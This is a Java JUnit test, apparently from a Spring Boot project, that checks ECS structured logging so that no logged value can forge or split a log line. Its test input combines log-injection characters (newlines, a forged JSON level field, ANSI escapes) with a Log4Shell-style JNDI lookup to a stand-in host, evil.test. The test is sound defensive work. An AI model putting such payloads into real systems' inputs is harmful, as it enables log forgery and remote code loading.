package org.nangdok.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.boot.logging.logback.StructuredLogEncoder;
import org.springframework.core.env.Environment;
import org.springframework.mock.env.MockEnvironment;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Row 105: with {@code logging.structured.format.console=ecs} nobody can forge a line of the log.
 */
class StructuredLogTest {

  @Test
  void oneEventIsOneLineWhateverItHolds() {
    String evil = "a\n{\"log.level\":\"ERROR\"}\r\u001b[31m ${jndi:ldap://evil.test/x} \u2028";
    var context = new LoggerContext();
    context.putObject(Environment.class.getName(), new MockEnvironment());
    var encoder = new StructuredLogEncoder();
    encoder.setContext(context);
    encoder.setFormat("ecs");
    encoder.start();
    Logger logger = context.getLogger("org.nangdok.test");
    var event = new LoggingEvent("test", logger, Level.INFO, "host {}", null, new Object[] {evil});
    event.setMDCPropertyMap(Map.of());

    String line = new String(encoder.encode(event), StandardCharsets.UTF_8);

    assertThat(line.strip()).doesNotContain("\n", "\r", "\u001b");
    JsonNode json = JsonMapper.shared().readTree(line);
    assertThat(json.get("message").asString()).isEqualTo("host " + evil);
    assertThat(json.at("/log/level").asString()).isEqualTo("INFO");
  }
}
